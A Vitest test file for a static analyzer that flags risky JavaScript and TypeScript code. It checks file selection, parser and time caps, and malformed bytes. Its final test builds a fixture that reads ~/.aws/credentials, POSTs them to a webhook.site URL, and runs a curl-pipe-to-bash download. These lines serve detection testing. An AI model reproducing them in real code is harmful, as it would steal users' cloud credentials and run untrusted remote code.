import { describe, expect, it } from 'vitest';
import type { AnalyzerOutput } from '../../core/analyzer.js';
import { FindingSchema } from '../../core/finding.js';
import { DEFAULT_ANALYZER_LIMITS } from '../../core/limits.js';
import { runAnalyzer } from '../runner.js';
import type { TestWorkspaceOptions } from '../test-helpers/workspace.js';
import { makeTestWorkspace } from '../test-helpers/workspace.js';
import type { CodeAnalyzerOptions } from './index.js';
import { NO_CODE_REASON, codeAnalyzer, createCodeAnalyzer, isCodeFile } from './index.js';

async function run(
  files: Record<string, string | Buffer>,
  options: CodeAnalyzerOptions = {},
  workspace: TestWorkspaceOptions & { retype?: Record<string, 'javascript'> } = {},
): Promise<AnalyzerOutput> {
  const ws = await makeTestWorkspace(files, workspace);
  try {
    for (const [path, type] of Object.entries(workspace.retype ?? {})) {
      const file = ws.ctx.workspace.files.find((f) => f.path === path);
      if (file) file.type = type;
    }
    return await createCodeAnalyzer(options).analyze(ws.ctx);
  } finally {
    await ws.cleanup();
  }
}

function ruleFiles(output: AnalyzerOutput): string[] {
  return [...new Set(output.findings.map((f) => `${f.ruleId} ${f.location?.file ?? ''}`))].sort();
}

const EVAL = 'eval(code);\n';

describe('which files are analysed', () => {
  it('skips a package without JavaScript or TypeScript, saying why', async () => {
    const output = await run({ 'package.json': '{"name":"x"}', 'README.md': 'eval(code)' });
    expect(output).toMatchObject({ status: 'skipped', reason: NO_CODE_REASON, findings: [] });
  });

  it('reads every script extension, bundles in dist/, and extension-less node scripts; skips node_modules and .d.ts', async () => {
    const output = await run(
      {
        'dist/index.js': EVAL,
        'dist/bundle.min.cjs': EVAL,
        'src/a.mjs': EVAL,
        'src/b.ts': EVAL,
        'src/c.mts': EVAL,
        'src/d.cts': EVAL,
        'src/e.tsx': 'const x = <div>{eval(code)}</div>;\n',
        'src/f.jsx': 'const x = <p>{eval(code)}</p>;\n',
        'bin/cli': `#!/usr/bin/env node\n${EVAL}`,
        'types/index.d.ts': 'declare function eval2(code: string): void;\n',
        'node_modules/dep/index.js': EVAL,
        'docs/notes.txt': EVAL,
      },
      {},
      { retype: { 'bin/cli': 'javascript' } },
    );
    expect(output.status).toBe('succeeded');
    const files = output.findings.map((f) => f.location?.file).sort();
    expect(files).toEqual(['bin/cli', 'dist/bundle.min.cjs', 'dist/index.js', 'src/a.mjs', 'src/b.ts', 'src/c.mts', 'src/d.cts', 'src/e.tsx', 'src/f.jsx']);
  });

  it.each([
    [{ path: 'a.js', size: 1, type: 'javascript' as const }, true],
    [{ path: 'a.js', size: 1, type: 'binary' as const }, true],
    [{ path: 'a.js', size: 1, type: 'elf' as const }, false],
    [{ path: 'a.js', size: 1, type: 'javascript' as const, omitted: true }, false],
    [{ path: 'x/node_modules/y/a.js', size: 1, type: 'javascript' as const }, false],
    [{ path: 'bin/run', size: 1, type: 'javascript' as const }, true],
    [{ path: 'bin/run', size: 1, type: 'shell' as const }, false],
    [{ path: 'README.md', size: 1, type: 'markdown' as const }, false],
  ])('isCodeFile(%j) is %s', (file, expected) => {
    expect(isCodeFile(file)).toBe(expected);
  });
});

describe('partial results', () => {
  it('records unparseable files as errors and says how many', async () => {
    const output = await run({ 'a.js': EVAL, 'b.js': 'function (', 'c.js': 'let let let = ;;; }' });
    expect(output.status).toBe('partial');
    expect(output.reason).toMatch(/^\d of 3 files could not be parsed$/);
    expect(output.errors?.map((e) => e.file)).toContain('b.js');
    expect(output.errors?.every((e) => e.message.startsWith('could not parse: '))).toBe(true);
    expect(ruleFiles(output)).toContain('code/eval-dynamic a.js');
  });

  it('records files over the parser cap as skipped, with a finding naming size and cap', async () => {
    const output = await run({ 'small.js': EVAL, 'big.js': `${'// padding\n'.repeat(200)}${EVAL}` }, { maxParseBytes: 1000 });
    expect(output.status).toBe('partial');
    expect(output.reason).toBe('1 file over the parser cap was not analysed');
    const skipped = output.findings.find((f) => f.ruleId === 'code/file-skipped');
    expect(skipped?.location?.file).toBe('big.js');
    expect(skipped?.message).toMatch(/^big\.js is 2\.\d KiB, over the 1000 B cap for parsing code; it was not analysed$/);
  });

  it.each([
    ['empty statements', ';'.repeat(3000)],
    ['a sequence of names, with a call hidden at the end', `x = ${'a,'.repeat(1500)}a; ${EVAL}`],
  ])('records a file of %s over the token cap as skipped, without parsing it', async (_label, text) => {
    const output = await run({ 'small.js': EVAL, 'dense.js': text }, { maxParseTokens: 2000 });
    expect(output.status).toBe('partial');
    expect(output.reason).toBe('1 file over the parser cap was not analysed');
    const skipped = output.findings.find((f) => f.ruleId === 'code/file-skipped');
    expect(skipped?.location?.file).toBe('dense.js');
    expect(skipped?.message).toMatch(/^dense\.js has about 3,00\d tokens, over the 2,000-token cap for parsing code; it was not analysed$/);
    expect(ruleFiles(output)).toEqual(['code/eval-dynamic small.js', 'code/file-skipped dense.js']);
  });

  it('takes a token cap lowered by a retry from the analyzer limits, and says so', async () => {
    const limits = { ...DEFAULT_ANALYZER_LIMITS, maxParseTokens: 2000 };
    const output = await run({ 'small.js': EVAL, 'dense.js': ';'.repeat(3000) }, {}, { limits });
    const skipped = output.findings.find((f) => f.ruleId === 'code/file-skipped');
    expect(skipped?.message).toBe('dense.js has about 3,000 tokens, over the 2,000-token cap (lowered from 1,500,000 for a retry after the analysis ran out of heap) for parsing code; it was not analysed');
    expect(ruleFiles(output)).toEqual(['code/eval-dynamic small.js', 'code/file-skipped dense.js']);
  });

  it('applies the reader\'s text cap when it is lower than the parser cap', async () => {
    const output = await run({ 'big.js': `${'// padding\n'.repeat(200)}${EVAL}` }, {}, { limits: { ...DEFAULT_ANALYZER_LIMITS, maxTextBytes: 512 } });
    expect(output.findings.map((f) => f.ruleId)).toEqual(['code/file-skipped']);
    expect(output.findings[0]?.message).toContain('over the 512 B cap');
  });

  it('reports a file cut short by the time budget', async () => {
    const big = Array.from({ length: 3000 }, (_, i) => `function f${i}(a){return a+${i}}`).join('\n');
    const output = await run({ 'big.js': big, 'small.js': 'x;' }, { fileBudgetMs: 0 });
    expect(output.status).toBe('partial');
    expect(output.reason).toBe('analysis of 1 file was cut short by the time budget');
    expect(ruleFiles(output)).toEqual(['code/analysis-cut-short big.js']);
  });

  it('stops on an aborted signal instead of returning a clean result', async () => {
    const controller = new AbortController();
    controller.abort();
    await expect(run({ 'a.js': EVAL }, {}, { signal: controller.signal })).rejects.toThrow();
  });
});

describe('hostile bytes', () => {
  it('reads files with NUL bytes and invalid UTF-8 without crashing, and still finds what follows', async () => {
    const nul = Buffer.concat([Buffer.from("const s = '"), Buffer.from([0, 0, 1, 2]), Buffer.from("';\neval(code);\n")]);
    const invalid = Buffer.concat([Buffer.from("const s = '"), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0]), Buffer.from("';\neval(code);\n")]);
    const output = await run({ 'nul.js': nul, 'invalid.js': invalid });
    expect(output.status).toBe('succeeded');
    expect(ruleFiles(output)).toEqual(['code/eval-dynamic invalid.js', 'code/eval-dynamic nul.js']);
  });
});

describe('through the runner', () => {
  it('declares every rule it emits and produces valid findings', async () => {
    const ws = await makeTestWorkspace({
      'index.js': [
        "import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path';",
        "import { execSync } from 'node:child_process';",
        "const creds = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');",
        "await fetch('https://webhook.site/3c1b2a00-0000-4000-8000-000000000000', { method: 'POST', body: creds });",
        "execSync('curl -s https://x.io/i.sh | bash');",
      ].join('\n'),
    });
    try {
      const result = await runAnalyzer(codeAnalyzer, ws.ctx, { signal: new AbortController().signal, capabilities: { network: false, docker: false } });
      expect(result.status).toBe('succeeded');
      expect(result.findings.every((f) => FindingSchema.safeParse(f).success)).toBe(true);
      expect([...new Set(result.findings.map((f) => f.ruleId))].sort()).toEqual([
        'code/credential-read',
        'code/download-exec',
        'code/endpoint',
        'code/endpoint-exfil-service',
        'code/secrets-to-network',
      ]);
    } finally {
      await ws.cleanup();
    }
  });
});
